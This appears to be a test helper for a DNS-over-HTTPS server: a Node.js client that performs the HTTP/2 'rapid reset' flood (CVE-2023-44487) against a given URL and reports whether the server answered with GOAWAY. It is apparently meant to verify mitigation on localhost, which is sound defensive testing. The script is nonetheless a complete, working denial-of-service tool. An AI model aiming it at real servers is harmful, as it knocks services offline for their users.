// An HTTP/2 "rapid reset" client (CVE-2023-44487), in its own process: it
// opens DoH streams and cancels each (RST_STREAM CANCEL) right after its
// HEADERS went out, `batch` at a time, until it has sent `total` or the
// server sends GOAWAY. Each stream asks another name (no cache hit, no query
// shared with another). Prints one JSON line: streams sent, the GOAWAY code
// (null: none), and whether the connection closed.
//
// node test/support/rapid-reset.mjs https://127.0.0.1:PORT TOTAL BATCH PREFIX

import { connect, constants } from 'node:http2';

const [url, totalText, batchText, prefix] = process.argv.slice(2);
const total = Number(totalText);
const batch = Number(batchText);

/** A DNS query for `name` (type A, RD), base64url as GET ?dns= wants it. */
function dnsQuery(name) {
  const labels = name.split('.').flatMap((l) => [l.length, ...Buffer.from(l)]);
  return Buffer.from([0, 0, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0, ...labels, 0, 0, 1, 0, 1]).toString('base64url');
}

const session = connect(url, { rejectUnauthorized: false });
let goaway = null;
let closed = false;
session.on('goaway', (code) => (goaway = code));
session.on('error', (e) => process.env.DEBUG && console.error('session error', e.code, e.message));
session.on('close', () => (closed = true));
await new Promise((resolve) => session.once('connect', resolve).once('close', resolve));

let sent = 0;
while (sent < total && !closed && goaway === null) {
  const streams = [];
  for (let i = 0; i < batch && sent < total; i++, sent++) {
    try {
      const req = session.request({ ':method': 'GET', ':path': `/dns-query?dns=${dnsQuery(`${prefix}-${sent}.example`)}` });
      req.on('error', () => undefined);
      streams.push(req);
    } catch {
      closed = true; // the session went while sending
      break;
    }
  }
  // The HEADERS frames go out on a later turn of the loop (a reset before that cancels them unsent): then the resets.
  await new Promise((resolve) => setTimeout(resolve, 1));
  for (const s of streams) s.close(constants.NGHTTP2_CANCEL);
  await new Promise((resolve) => setImmediate(resolve));
}
await new Promise((resolve) => setTimeout(resolve, 300));
console.log(JSON.stringify({ sent, goaway, closed }));
session.destroy();
